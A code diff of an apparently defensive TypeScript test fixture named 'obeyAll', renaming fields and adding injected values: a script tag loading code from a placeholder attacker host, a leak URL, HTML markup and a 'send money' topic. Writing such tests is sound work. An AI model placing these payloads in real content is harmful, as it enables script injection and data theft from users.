@@ -51,10 +51,8 @@ export const answering =
     points: [truePoint(told)],
     quotes: [],
     questions: [],
-    kind: "note",
-    topics: [],
-    language: "en",
-    warnings: [],
+    tags: ["note"],
+    gists: [],
     ...more(told),
   });
 
@@ -73,7 +71,8 @@ export const obeyAll = answering((told) => ({
   kind: "invite",
   topics: ["databases", "beekeeping", "send money"],
   language: "<b>en</b>",
-  warnings: [],
+  tags: ["invite", "databases", "beekeeping", "send money", "<b>x</b>"],
+  gists: [`<script src="https://${EVIL}/x.js"></script> ${LEAK}?d=1`],
   stage: "connected",
   readiness: 1,
   score: 99,
